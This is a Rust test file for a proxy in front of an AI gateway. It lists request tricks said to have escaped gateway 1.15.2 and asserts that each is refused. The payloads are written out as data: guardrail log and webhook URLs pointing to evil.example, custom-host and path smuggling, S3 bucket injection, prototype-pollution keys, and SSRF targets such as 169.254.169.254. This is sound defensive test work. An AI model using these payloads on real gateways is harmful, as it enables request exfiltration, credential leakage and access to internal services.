//! Ways out that worked against gateway 1.15.2, each as a request that must not get through.

use http::Method;
use serde_json::json;

use crate::dialect::{
    PlanError,
    portkey::{
        BodyPeek, BodyScan, Mode, PeekKind, Portkey, Route, Settings,
        sample::{self, chat, config, head, plan, plan_with},
    },
};

fn refused(head: &http::request::Parts) -> bool {
    let planned = plan(&sample::providers().link(), head, &BodyPeek::default());
    matches!(planned, Err(PlanError::DestinationNotAllowed { .. }))
}

#[test]
fn a_guardrail_header_posts_every_header_to_a_log() {
    let log = r#"[{"default.log":{"logURL":"http://evil.example"}}]"#;
    for header in ["x-portkey-default-input-guardrails", "x-portkey-default-output-guardrails"] {
        for naming in [
            &[("x-portkey-provider", "@openai-prod")][..],
            &[("x-portkey-config", r#"{"provider":"@openai-prod"}"#)],
            &[],
        ] {
            let mut headers = naming.to_vec();
            headers.push((header, log));
            assert!(refused(&chat(&headers)), "{headers:?}");
        }
    }
}

#[test]
fn a_guardrail_header_cut_in_two_lines_is_put_together_by_the_gateway() {
    let halves = [
        ("x-portkey-default-input-guardrails", r#"[{"default.contains":{}}"#),
        ("x-portkey-default-input-guardrails", r#"{"default.log":{"logURL":"http://evil.example"}}]"#),
    ];
    let planned = plan(&sample::providers().link(), &chat(&halves), &BodyPeek::default());
    assert!(matches!(planned, Err(PlanError::InvalidConfig { .. })));
}

#[test]
fn guardrails_and_hooks_in_a_config_post_the_rewritten_config() {
    let log = json!({"default.log": {"logURL": "http://evil.example"}});
    let hook = json!({"type": "guardrail", "checks": [{"id": "default.webhook", "parameters": {"webhookURL": "http://evil.example"}}]});
    for key in
        ["input_guardrails", "output_guardrails", "inputGuardrails", "input_mutators", "default_input_guardrails"]
    {
        assert!(
            refused(&chat(&[("x-portkey-config", &json!({"provider": "@openai-prod", key: [log]}).to_string())])),
            "{key}"
        );
    }
    for key in ["before_request_hooks", "after_request_hooks", "afterRequestHooks"] {
        assert!(
            refused(&chat(&[("x-portkey-config", &json!({"provider": "@openai-prod", key: [hook]}).to_string())])),
            "{key}"
        );
    }
    let beside = json!({"strategy": {"mode": "fallback"}, "targets": [{"provider": "@openai-prod"},
        {"provider": "groq", "api_key": "sk", "weight": 0, "input_guardrails": [log]}]});
    assert!(refused(&chat(&[("x-portkey-config", &beside.to_string())])));
    let only_options = json!({"retry": {"attempts": 1}, "output_guardrails": [log]}).to_string();
    assert!(refused(&chat(&[("x-portkey-config", &only_options), ("x-portkey-provider", "@openai-prod")])));
}

#[test]
fn a_leaf_of_the_client_has_our_config_forwarded() {
    for leaf in [
        json!({"provider": "openai", "api_key": "x", "custom_host": "http://evil.example", "weight": 0}),
        json!({"provider": "openai", "api_key": "x", "forward_headers": ["x-portkey-config"], "weight": 0}),
        json!({"provider": "openai", "api_key": "x", "forwardHeaders": ["X-Portkey-Config"]}),
        json!({"provider": "openai", "api_key": "x", "forward_headers": [" authorization"]}),
        json!({"provider": "azure-openai", "api_key": "x", "resource_name": "evil"}),
        json!({"provider": "huggingface", "api_key": "x", "huggingface_base_url": "http://evil.example"}),
    ] {
        let config = json!({"strategy": {"mode": "loadbalance"}, "targets": [{"provider": "@openai-prod"}, leaf]});
        assert!(refused(&chat(&[("x-portkey-config", &config.to_string())])), "{config}");
    }
    for parent in ["forward_headers", "forwardHeaders"] {
        let config = json!({"strategy": {"mode": "single"}, parent: ["x-portkey-config"], "targets": [{"provider": "@openai-prod"}]});
        assert!(refused(&chat(&[("x-portkey-config", &config.to_string())])), "{config}");
    }
    let header = [("x-portkey-provider", "@openai-prod"), ("x-portkey-forward-headers", "x-ok, x-portkey-api-key")];
    assert!(refused(&chat(&header)));
}

#[test]
fn another_spelling_of_custom_host_counts_too() {
    for key in ["custom_Host", "customHost", "custom_host"] {
        assert!(refused(&chat(&[(
            "x-portkey-config",
            &json!({"provider": "@openai-prod", key: "http://evil.example"}).to_string()
        )])));
    }
    // Two spellings at once: the later one would win there.
    let both =
        r#"{"provider":"@ollama","custom_host":"http://ollama.internal:11434","customHost":"http://evil.example"}"#;
    let planned = plan(&sample::providers().link(), &chat(&[("x-portkey-config", both)]), &BodyPeek::default());
    assert!(matches!(planned, Err(PlanError::InvalidConfig { .. })));
}

#[test]
fn a_path_continues_the_host() {
    let dialect = Portkey::new(Settings::default());
    for path in [
        "/v1/proxy.attacker.example/x",
        "/v1/proxy2/x",
        "/v1/evil.example/a.openai.azure.com/x",
        "/v1/proxy/127.0.0.1/a.openai.azure.com/x",
        "/v1/files/s3%3A%2F%2Fevil.example%23",
    ] {
        let refused = dialect.route(&head(Method::POST, path, &[]));
        assert!(!matches!(refused, Ok(Route::Gateway)), "{path}");
    }
}

#[test]
fn a_bedrock_file_id_or_bucket_is_a_host() {
    // A query suffices: the gateway cuts the id out of the whole URL.
    assert!(refused(&head(Method::GET, "/v1/files/evil.example?x=", &[("x-portkey-provider", "@bedrock")])));
    assert!(refused(&head(Method::GET, "/v1/files/evil.example?x=", &[("x-portkey-provider", "bedrock")])));
    let beside = json!({"strategy": {"mode": "fallback"}, "targets": [{"provider": "@openai-prod"},
        {"provider": "bedrock", "aws_access_key_id": "x", "aws_secret_access_key": "x"}]});
    assert!(refused(&head(Method::GET, "/v1/files/evil.example?x=", &[("x-portkey-config", &beside.to_string())])));
    let bucket = [("x-portkey-provider", "@bedrock"), ("x-portkey-aws-s3-bucket", "evil.example/#")];
    assert!(refused(&head(Method::POST, "/v1/files", &bucket)));
}

#[test]
fn a_google_key_in_the_query_travels_beside_ours() {
    let head = head(Method::POST, "/v1/v1beta/models/g:x?key=client&alt=sse", &[("x-portkey-provider", "@google")]);
    let planned = plan(&sample::providers().link(), &head, &BodyPeek::default()).unwrap();
    let (applied, _) = sample::apply(&planned, &head);
    assert_eq!(applied.uri, "/v1/v1beta/models/g:x?alt=sse");
}

#[test]
fn without_an_entity_the_gateway_reaches_into_the_pod() {
    for host in [
        "http://127.0.0.1:8901/v1",
        "http://localhost:8901",
        "http://[::1]:1/",
        "http://169.254.169.254/latest",
        "http://2130706433/",
    ] {
        for sent in [
            ("x-portkey-custom-host", host.to_owned()),
            ("x-portkey-config", json!({"provider": "openai", "api_key": "x", "custom_host": host}).to_string()),
            (
                "x-portkey-config",
                json!({"strategy": {"mode": "single"}, "targets": [{"customHost": host}]}).to_string(),
            ),
            ("x-portkey-azure-foundry-url", host.to_owned()),
        ] {
            let head = chat(&[("x-portkey-provider", "openai"), (sent.0, &sent.1)]);
            let listed = Settings {
                passthrough_hosts: ["127.0.0.1", "localhost", "[::1]", "169.254.169.254"].map(str::to_owned).into(),
                ..Settings::default()
            };
            let planned = plan_with(listed, &sample::providers().link(), &head, &BodyPeek::default());
            assert!(matches!(planned, Err(PlanError::DestinationNotAllowed { .. })), "{sent:?}");
        }
    }
}

#[test]
fn the_last_of_two_models_counts_for_the_gateway() {
    let mut scan = BodyScan::new(&PeekKind::Json);
    scan.feed(br#"{"model":"gpt-4o","model":"@openai-prod/gpt-4o"}"#);
    let planned = plan(&sample::providers().link(), &chat(&[]), &scan.finish(true));
    assert!(matches!(planned, Err(PlanError::InvalidBody { .. })));
}

#[test]
fn a_flat_config_with_only_override_params_is_answered_400() {
    let sent =
        [("x-portkey-config", r#"{"override_params":{"temperature":0}}"#), ("x-portkey-provider", "@openai-prod")];
    let planned = plan(&sample::providers().link(), &chat(&sent), &BodyPeek::default()).unwrap();
    assert_eq!(planned.mode, Mode::Config);
    let (applied, _) = sample::apply(&planned, &chat(&sent));
    let expected =
        json!({"override_params": {"temperature": 0}, "provider": "openai", "api_key": "sk-openai-key-api_key"});
    assert_eq!(config(&applied), expected);
}

#[test]
fn azure_names_of_integrations_mean_nothing_in_a_config() {
    let sent = json!({"provider": "@azure"}).to_string();
    let head = chat(&[("x-portkey-config", &sent)]);
    let planned = plan(&sample::providers().link(), &head, &BodyPeek::default()).unwrap();
    let (applied, _) = sample::apply(&planned, &head);
    let arrived = config(&applied);
    assert_eq!((&arrived["resource_name"], &arrived["api_version"]), (&json!("res-1"), &json!("2024-06-01")));
    assert!(
        arrived
            .as_object()
            .unwrap()
            .keys()
            .all(|key| !key.starts_with("azure_resource") && !key.starts_with("azure_api"))
    );
}

#[test]
fn prototypes_are_no_place_for_a_host() {
    for key in ["__proto__", "____proto____"] {
        let config = format!(r#"{{"provider":"@openai-prod","{key}":{{"customHost":"http://evil.example"}}}}"#);
        let planned = plan(&sample::providers().link(), &chat(&[("x-portkey-config", &config)]), &BodyPeek::default());
        assert!(matches!(planned, Err(PlanError::InvalidConfig { .. })), "{key}");
    }
}

#[test]
fn an_unmatched_request_keeps_its_credentials_but_no_placeholder() {
    for (authorization, portkey_key, kept) in [
        ("Bearer sk-own", "pk", true),
        ("Bearer OPENAI_API_KEY", "pk", false),
        ("Bearer DUMMY-KEY", "", false),
        ("Bearer dummy", "pk", false),
        ("Bearer ", "pk", false),
        ("Bearer pk", "pk", false),
        ("pk", "pk", false),
    ] {
        let sent =
            [("x-portkey-provider", "openai"), ("authorization", authorization), ("x-portkey-api-key", portkey_key)];
        let planned = plan(&sample::providers().link(), &chat(&sent), &BodyPeek::default()).unwrap();
        let (applied, injected) = sample::apply(&planned, &chat(&sent));
        assert_eq!(applied.headers.contains_key("authorization"), kept, "{authorization}");
        assert!(!applied.headers.contains_key("x-portkey-api-key") && injected.credentials.is_empty());
        assert_eq!(applied.headers["x-portkey-provider"], "openai");
    }
}
